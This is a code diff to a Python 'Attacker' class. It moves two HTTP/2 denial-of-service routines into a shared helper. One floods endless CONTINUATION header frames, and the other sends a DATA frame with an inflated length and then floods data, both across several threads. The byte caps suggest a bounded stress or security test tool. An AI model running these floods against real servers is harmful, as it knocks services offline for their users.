@@ -188,6 +188,13 @@ class Attacker:
 
         self.threads(4, self.repeat, step)
 
+    def pour(self, connection, kind, stream, piece):
+        """Frames of one stream, until somebody ends it."""
+        while not self.over():
+            connection.send(frame(kind, 0, stream, piece))
+            if self.count("bytes", len(piece)) > MOST_BYTES:
+                return
+
     def continuation(self):
         """Headers that never end."""
         piece = http2.literal(b"x-filler", b"x" * 8000)
@@ -195,12 +202,7 @@ class Attacker:
         def step(connection):
             stream = connection.next_stream()
             connection.send(frame(HEADERS, 0, stream, http2.call_headers(STATUS)))
-            for _ in range(100_000):
-                if self.over():
-                    return
-                connection.send(frame(CONTINUATION, 0, stream, piece))
-                if self.count("bytes", len(piece)) > MOST_BYTES:
-                    return
+            self.pour(connection, CONTINUATION, stream, piece)
 
         self.threads(2, self.repeat, step)
 
@@ -211,12 +213,7 @@ class Attacker:
         def step(connection):
             stream = connection.call(WITHDRAW, end=False)
             connection.send(frame(DATA, 0, stream, struct.pack(">BI", 0, 0xFFFFFFF0)))
-            for _ in range(100_000):
-                if self.over():
-                    return
-                connection.send(frame(DATA, 0, stream, piece))
-                if self.count("bytes", len(piece)) > MOST_BYTES:
-                    return
+            self.pour(connection, DATA, stream, piece)
 
         self.threads(4, self.repeat, step)
 
